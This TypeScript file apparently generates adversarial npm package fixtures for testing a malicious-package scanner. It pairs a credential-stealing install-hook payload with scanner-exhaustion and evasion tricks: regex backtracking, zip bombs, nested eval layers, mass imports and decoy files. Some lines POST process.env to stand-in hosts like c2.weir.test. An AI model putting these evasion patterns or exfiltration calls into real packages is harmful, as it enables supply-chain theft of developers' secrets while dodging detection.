import { deflateSync, gzipSync } from 'node:zlib';
import { type HostileKind, kind } from './kind.ts';
import { hooked, imported, manifest, numbered, pack, STEAL } from './payload.ts';

/** Code that costs whoever computes it, in front of the payload. */
function costly(id: string, what: string, code: () => string): HostileKind {
  return kind(id, what, () => hooked(`${code()};\n${STEAL}`));
}

function base64(text: string | Uint8Array): string {
  return Buffer.from(text as Uint8Array).toString('base64');
}

function layered(depth: number): string {
  let code = STEAL;
  for (let i = 0; i < depth; i++) code = `eval(Buffer.from('${base64(code)}', 'base64').toString())`;
  return code;
}

export const WORKER_KINDS: readonly HostileKind[] = [
  costly('regex-hosts', 'a text of dots for what looks for hosts', () => `x='${'a.'.repeat(500_000)}'`),
  costly('regex-urls', 'addresses that never end', () => `x='${'https://'.repeat(200_000)}'`),
  costly('regex-hyphens', 'names of hyphens', () => `x='${`${'a-'.repeat(100)}.`.repeat(5_000)}'`),
  costly('regex-digits', 'what looks like addresses of numbers', () => `x='${'1.'.repeat(500_000)}'`),
  costly(
    'regex-spaces',
    'a million spaces before what is looked for',
    () => `x=eval${' '.repeat(1_000_000)}`,
  ),
  costly('regex-words', 'one word of a megabyte in many texts', () =>
    numbered(20, (i) => `x${i}='${'ab_'.repeat(20_000)}';`),
  ),
  costly(
    'regex-own',
    'a regular expression that backtracks, on a constant',
    () => `'${'a'.repeat(60)}!'.replace(/^(a+)+$/, ''); /^(a+)+$/.test('${'a'.repeat(60)}!')`,
  ),
  costly(
    'fold-repeat',
    'a text repeated to a gigabyte',
    () => `x='a'.repeat(2**30); y='a'.repeat(1e9).repeat(1e9); eval(x)`,
  ),
  costly(
    'fold-pad',
    'a text padded to a gigabyte',
    () => `x='a'.padEnd(2**30); y='a'.padStart(1e308); eval(x)`,
  ),
  costly('fold-double', 'a text that doubles sixty times', () =>
    `x0='${'a'.repeat(1000)}';${numbered(60, (i) => `const x${i + 1}=x${i}+x${i};`)}eval(x60)`.replace(
      'x0=',
      'const x0=',
    ),
  ),
  costly(
    'fold-concat',
    'an array that doubles forty times',
    () =>
      `const a0=[1,2,3,4];${numbered(40, (i) => `const a${i + 1}=a${i}.concat(a${i});`)}eval(a40.join(''))`,
  ),
  costly(
    'fold-split',
    'two million letters as an array, again and again',
    () =>
      `const s='ab'.repeat(900000);${numbered(40, (i) => `const t${i}=s.split('').reverse().join('');eval(t${i});`)}`,
  ),
  costly(
    'fold-join',
    'an array of large texts joined',
    () => `const b='a'.repeat(1900000);eval([${'b,'.repeat(2_000)}b].join(''))`,
  ),
  costly(
    'fold-replace',
    'each letter replaced by a large text',
    () => `const b='a'.repeat(1900000);eval(b.replaceAll('a', b))`,
  ),
  costly(
    'fold-spread',
    'arrays spread into each other',
    () =>
      `const a0=[1,2,3,4];${numbered(30, (i) => `const a${i + 1}=[...a${i},...a${i}];`)}eval(String.fromCharCode(...a30))`,
  ),
  costly(
    'fold-codes',
    'a million character codes',
    () => `eval(String.fromCharCode(${'97,'.repeat(1_000_000)}97))`,
  ),
  costly(
    'fold-map',
    'callbacks over callbacks',
    () =>
      `const s='abcdefghij'.repeat(1000);${numbered(50, (i) => `eval(s.split('').map(c=>String.fromCharCode(c.charCodeAt(0)^${i})).join(''));`)}`,
  ),
  costly(
    'fold-exponential',
    'functions that call themselves twice',
    () =>
      `function f0(a){return a+a}${numbered(40, (i) => `function f${i + 1}(a){return f${i}(a)+f${i}(a)}`)}eval(f40('a'))`,
  ),
  costly('fold-steps', 'constants that use up all steps', () =>
    numbered(
      40_000,
      (i) => `var v${i}='a'+'b'+${i}+'c'+['x','y',${i}].join('').split('').reverse().join('');`,
    ),
  ),
  costly(
    'fold-aliases',
    '50,000 names for each other',
    () => `const a0=eval;${numbered(50_000, (i) => `const a${i + 1}=a${i};`)}a50000('1')`,
  ),
  costly(
    'fold-self',
    'names that lead back to themselves',
    () => `var a=b,b=c,c=a;a=b+c;b=a+c;c=a.b.c;eval(a);eval(b.join(c))`,
  ),
  costly('zlib-bomb', 'a compressed constant of a gigabyte', () => {
    // A gigabyte packs to a megabyte; twice packed it is a constant of some kilobytes.
    const once = deflateSync(Buffer.alloc(256 * 2 ** 20), { level: 9 });
    const code = base64(deflateSync(once, { level: 9 }));
    return `const z=require('zlib');eval(z.inflateSync(z.inflateSync(Buffer.from('${code}','base64'))).toString())`;
  }),
  costly('zlib-many', '2,000 compressed constants of two megabytes', () => {
    const code = base64(gzipSync(Buffer.alloc(1_900_000, 'a=1;')));
    return `const z=require('zlib');${numbered(2_000, (i) => `eval(z.gunzipSync(Buffer.from('${code}','base64')).toString()+${i});`)}`;
  }),
  kind('eval-layers', 'the payload under 24 layers', () => hooked(layered(24))),
  kind('eval-many', '2,000 layers side by side, the payload in the last', () =>
    hooked(
      numbered(2_000, (i) => `eval(atob('${base64(`console.log(${i});var y${i}=1;`)}'));\n`) +
        `eval(atob('${base64(STEAL)}'));\n`,
    ),
  ),
  kind('eval-quine', 'code that runs its own text', () =>
    hooked(
      `const q = "eval(q)"; eval(q);\n(function f(){ eval('(' + f + ')()') })();\nvar d = 'eval(unescape(d))'; eval(unescape(d));\n${layered(2)}\n`,
    ),
  ),
  kind('imports-million', '1,000,000 imports in one file, the payload in the last', () =>
    imported(numbered(250_000, (i) => `require('./m${i}');`) + `require('./last');\n`, { 'last.js': STEAL }),
  ),
  kind('imports-over', 'imports over the size that is parsed, the payload in the last', () =>
    imported(numbered(1_000_000, (i) => `require('./m${i}');`) + `require('./last');\n${STEAL}`, {
      'last.js': STEAL,
    }),
  ),
  kind('import-cycles', '700 files that all import each other', () => {
    const all = numbered(700, (i) => `require('./c${i}');`);
    const files: Record<string, string> = {};
    for (let i = 0; i < 700; i++) files[`c${i}.js`] = `${all}\nmodule.exports = ${i};\n`;
    return imported(`${all}\n`, { ...files, 'c699.js': `${all}\n${STEAL}` });
  }),
  kind('functions-100k', '100,000 functions at install', () =>
    hooked(
      `${numbered(100_000, (i) => `function f${i}(a){return f${(i * 7) % 100_000}(a)}\n`)}f1(process.env);\n${STEAL}`,
    ),
  ),
  kind('exports-many', '30,000 exports at install that mention each other', () =>
    hooked(`const m = require('./lib');\nm.x29999();\n`, {
      'lib.js': `${numbered(30_000, (i) => `exports.x${i} = () => exports.x${(i + 1) % 30_000}();\n`)}exports.x5 = () => { ${STEAL} };\n`,
    }),
  ),
  kind('flows', '4,000 names through which the environment goes', () =>
    hooked(
      `let e0 = process.env;\n${numbered(4_000, (i) => `let e${i + 1} = { ...e${i}, x: e${Math.floor(i / 2)} };\n`)}fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(e4000) });\n`,
    ),
  ),
  kind('sends', '5,000 requests with the environment', () =>
    hooked(
      numbered(
        5_000,
        (i) => `fetch('https://h${i}.weir.test', { method: 'POST', body: JSON.stringify(process.env) });\n`,
      ),
    ),
  ),
  kind('env-names', '100,000 variables of the environment', () =>
    hooked(`${numbered(100_000, (i) => `a(process.env.SECRET_${i});\n`)}${STEAL}`),
  ),
  kind('strings', '300,000 texts that look encoded', () =>
    hooked(`x=[${numbered(300_000, (i) => `'${base64(`t${i}`)}Aa1',`)}];\n${STEAL}`),
  ),
  kind('long-names', 'names of a megabyte', () =>
    hooked(
      `var ${'n'.repeat(1_000_000)} = process.env;\nfetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(${'n'.repeat(1_000_000)}) });\n`,
    ),
  ),
  kind('decoy-files', '15,000 files beside the payload', () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 15_000; i++) files[`lib/f${i}.js`] = `module.exports = ${i};\n`;
    return hooked(STEAL, files);
  }),
  kind('manifests-many', '10,000 package.json files below the root', () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 10_000; i++) files[`p${i}/package.json`] = '{"main":"lib/x"}';
    return pack({
      'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `require('./p9999');\n`,
      ...files,
      'p9999/lib/x.js': STEAL,
    }).build();
  }),
];
